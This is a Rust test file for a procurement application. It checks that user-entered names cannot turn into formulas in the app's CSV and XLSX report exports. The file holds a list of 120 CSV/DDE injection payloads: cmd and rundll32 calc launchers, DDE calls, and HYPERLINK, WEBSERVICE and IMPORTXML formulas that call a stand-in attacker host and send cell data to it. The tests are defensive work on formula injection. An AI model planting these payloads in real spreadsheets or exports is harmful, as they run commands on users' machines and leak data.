//! What people typed never becomes a formula in a file: every export, read back as a spreadsheet reads it.

use std::io::Cursor;

use abruf::actor::Role;
use abruf::reports::csv_table::{csv_table, harmless};
use axum::http::StatusCode;
use calamine::{Data, Reader as _, Xlsx};

use crate::csrf_walk::routes;
use crate::stress::say;
use crate::web::Web;
use crate::world::World;
use crate::world::contract::{fixed, prior_contract, value};

/// First characters by which spreadsheets know a formula, full-width forms too.
const BEGINNINGS: [&str; 10] = ["=", "+", "-", "@", "\t", "\r", "\u{ff1d}", "\u{ff0b}", "\u{ff0d}", "\u{ff20}"];

/// What stands behind them.
const ENDINGS: [&str; 12] = [
    "1+1",
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://boese.example/?\"&A1;\"hier\")",
    "WEBSERVICE(\"http://boese.example/\")",
    "IMPORTXML(\"http://boese.example/\",\"//a\")",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "SUM(A1:A9)*cmd|'/C calc'!A0",
    "x\";=1+1;\"",
    "x;=1+1",
    "x\n=1+1",
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=\"\"",
];

fn payloads() -> Vec<String> {
    BEGINNINGS.iter().flat_map(|begin| ENDINGS.iter().map(move |end| format!("{begin}{end}"))).collect()
}

fn is_amount(cell: &str) -> bool {
    cell.strip_prefix('-').is_some_and(|rest| {
        rest.starts_with(|c: char| c.is_ascii_digit())
            && rest.trim_end_matches(['€', ' ']).bytes().all(|it| it.is_ascii_digit() || b".,".contains(&it))
    })
}

fn is_formula(cell: &str) -> bool {
    BEGINNINGS.iter().any(|begin| cell.starts_with(begin)) && !is_amount(cell)
}

/// The cells of a CSV of ours: with or without a mark, separated by semicolons.
fn csv_cells(bytes: &[u8]) -> Vec<String> {
    let bytes = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    let mut reader = csv::ReaderBuilder::new().delimiter(b';').has_headers(false).flexible(true).from_reader(bytes);
    reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect()
}

/// The texts of a workbook of ours, and the formulas in it.
fn xlsx_cells(bytes: &[u8]) -> (Vec<String>, Vec<String>) {
    let mut book: Xlsx<_> = Xlsx::new(Cursor::new(bytes.to_vec())).unwrap();
    let (mut texts, mut formulas) = (Vec::new(), Vec::new());
    for name in book.sheet_names() {
        let range = book.worksheet_range(&name).unwrap();
        texts.extend(range.used_cells().filter_map(|(_, _, cell)| match cell {
            Data::String(text) => Some(text.clone()),
            _ => None,
        }));
        let range = book.worksheet_formula(&name).unwrap();
        formulas.extend(range.used_cells().map(|(_, _, formula)| formula.clone()));
    }
    (texts, formulas)
}

#[test]
fn every_payload_is_text_in_a_table_of_ours() {
    let payloads = payloads();
    assert_eq!(payloads.len(), 120);
    let rows: Vec<Vec<String>> = payloads.iter().map(|it| vec![it.clone(), "-1,50".to_owned(), it.clone()]).collect();
    let bytes = csv_table(b"\xef\xbb\xbf", &["a", "b", "c"], &rows).unwrap();
    let cells = csv_cells(&bytes);
    assert_eq!(cells.len(), 3 * (1 + payloads.len()), "no payload opens a cell or a row of its own");
    for (row, payload) in cells[3..].chunks(3).zip(&payloads) {
        assert_eq!(row, [format!("'{payload}"), "-1,50".to_owned(), format!("'{payload}")]);
    }
    for number in ["-1", "-1,50", "-1.234,50", "-1.234,50 €", "12"] {
        assert_eq!(harmless(number), number, "a number stays one");
    }
    say(&format!("formulas: {} payloads in CSV, none is one", payloads.len()));
}

/// A body whose town, contract, lot, item and supplier are called so, with an order and a request.
async fn house(names: &[String]) -> (Web, Vec<(Role, String)>) {
    let name = |at: usize| names[at % names.len()].replace(['\n', '\r'], " ");
    let world = World::new().await;
    let town = world.member(&name(0)).await;
    let (buyer_name, approver_name, title, lot) = (name(1), name(2), name(3), name(4));
    let eva = world.buyer(town).named(&buyer_name).await;
    let karl = world.approver(town).named(&approver_name).up_to("50000.00").await;
    let people = [
        (Role::Buyer, eva.clone()),
        (Role::Treasurer, world.person(Role::Treasurer, town).await),
        (Role::Office, world.office().await),
        (Role::Board, world.person(Role::Board, world.body).await),
        (Role::Auditor, world.auditor(&[town]).between("2025-01-01", "2026-12-31").await),
    ];
    let contract = world
        .contract("RV-2025-07")
        .ceiling(value("500000.00"))
        .lot(&lot)
        .item("TRN", fixed("1180.00").unit("Tag"))
        .entitles(town)
        .baseline("TRN", prior_contract("1400.00").dated("2025-11-10"))
        .await;
    for statement in [
        "UPDATE framework_contract SET title = $1, description = $1",
        "UPDATE item SET title = $1",
        "UPDATE organisation SET name = $1 WHERE kind = 'unternehmen'",
    ] {
        sqlx::query(statement).bind(&title).execute(world.owner()).await.unwrap();
    }
    let id = world.request(&eva, &contract, &[("TRN", "2")]).await;
    abruf::actions::release_call_off::release(&world.app, &karl, id, None).await.unwrap();
    let web = Web::over(world).await;
    let mut cookies = Vec::new();
    for (at, (role, actor)) in people.into_iter().enumerate() {
        cookies.push((role, web.cookie_of(&actor, &format!("person{at}@altenrode.example")).await));
    }
    (web, cookies)
}

/// Every route that answers with a table as a file, as somebody who may have it.
fn exports(cookies: &[(Role, String)]) -> Vec<(String, String)> {
    const REPORTS: [&str; 12] = [
        "einsparungen-nach",
        "einsparungen-abrufe",
        "einsparungen-positionen",
        "einsparungen-belege",
        "mehrkosten-abrufe",
        "mehrkosten-positionen",
        "offene-nachweise",
        "ausschoepfung",
        "abfluss",
        "auslaufende-vertraege",
        "nutzung",
        "aufbewahrung",
    ];
    let mut exports = Vec::new();
    for route in routes() {
        let Some((_, cookie)) = cookies.iter().rev().find(|(role, _)| route.access.lets_in(Some(*role))) else {
            continue;
        };
        if route.path.ends_with(".csv") && !route.path.contains('{') {
            exports.push((route.path.clone(), cookie.clone()));
        } else if route.path == "/berichte/{bericht}/{datei}" {
            let (_, board) = cookies.iter().find(|(role, _)| *role == Role::Board).unwrap();
            for report in REPORTS {
                for ending in ["csv", "xlsx"] {
                    exports.push((format!("/berichte/{report}/bericht.{ending}"), board.clone()));
                }
            }
        }
    }
    exports
}

async fn walk(payloads: &[String]) {
    let (mut files, mut texts_read, mut kept) = (0, 0, 0);
    for names in payloads.chunks(5) {
        let (web, cookies) = house(names).await;
        for (path, cookie) in exports(&cookies) {
            let (status, _, bytes) = web.download(&path, &cookie, &[]).await;
            assert_eq!(status, StatusCode::OK, "{path}");
            let (texts, formulas) =
                if path.ends_with(".xlsx") { xlsx_cells(&bytes) } else { (csv_cells(&bytes), Vec::new()) };
            // Our own sums are the only formulas.
            for formula in &formulas {
                let ours = ["SUM(", "ROUND(", "COUNTA(", "IF(", "ABS("].iter().any(|begin| formula.starts_with(begin))
                    || !formula.contains(['|', '"']);
                assert!(ours && !formula.contains("cmd") && !formula.contains("boese"), "{path}: {formula}");
            }
            if path.ends_with(".csv") {
                for text in &texts {
                    assert!(!is_formula(text), "{path}: {text:?}");
                }
            }
            kept += texts.iter().filter(|text| names.iter().any(|name| text.contains(name.trim()))).count();
            files += 1;
            texts_read += texts.len();
        }
    }
    say(&format!("formulas: {} payloads, {files} files, {texts_read} texts, {kept} of them payloads", payloads.len()));
    assert!(0 < kept, "no payload came through to any file");
}

#[tokio::test]
async fn no_export_holds_a_formula() {
    // One of each beginning, with endings that differ.
    let payloads: Vec<String> = payloads().into_iter().step_by(13).collect();
    walk(&payloads).await;
}

#[tokio::test]
#[ignore = "long: all 120 payloads"]
async fn no_export_holds_any_of_120_formulas() {
    walk(&payloads()).await;
}
